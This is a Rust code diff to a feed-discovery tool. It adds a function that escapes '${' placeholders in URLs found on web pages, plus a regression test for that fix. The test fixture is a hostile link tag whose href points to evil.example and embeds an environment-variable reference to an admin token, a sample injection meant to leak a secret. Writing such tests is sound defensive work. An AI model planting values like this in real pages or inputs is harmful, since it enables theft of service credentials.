@@ -86,7 +86,12 @@ fn choose(page: &Url, candidates: Vec<Candidate>, yes: bool) -> anyhow::Result<U
     };
     let chosen = candidates.get(place).unwrap_or(first);
     eprintln!("found {}", told(chosen));
-    chosen.url.parse().context("what the page names is no URL")
+    foreign(&chosen.url).parse().context("what the page names is no URL")
+}
+
+/// A URL that somebody else wrote: nothing in it is a reference to a variable or a file of the service.
+pub fn foreign(url: &str) -> String {
+    url.replace("${", "$%7B")
 }
 
 fn told(candidate: &Candidate) -> String {
@@ -131,4 +136,22 @@ fn table(add: &Add, url: &Url) -> String {
     }
     feed.insert("source".into(), V::Table(source));
     super::list::tables(vec![feed])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn se_09_what_a_page_names_refers_to_nothing_of_the_service() {
+        let page = "https://page.example/".parse().unwrap();
+        let candidates = discover(
+            b"<link rel=alternate type='application/rss+xml' href='https://evil.example/?x=${env:DATELINE_ADMIN_TOKEN}'>",
+            None,
+            &page,
+        );
+        let chosen = choose(&page, candidates, true).unwrap();
+        assert!(!chosen.as_str().contains("${"), "{chosen}");
+        assert_eq!(chosen.host_str(), Some("evil.example"));
+    }
 }
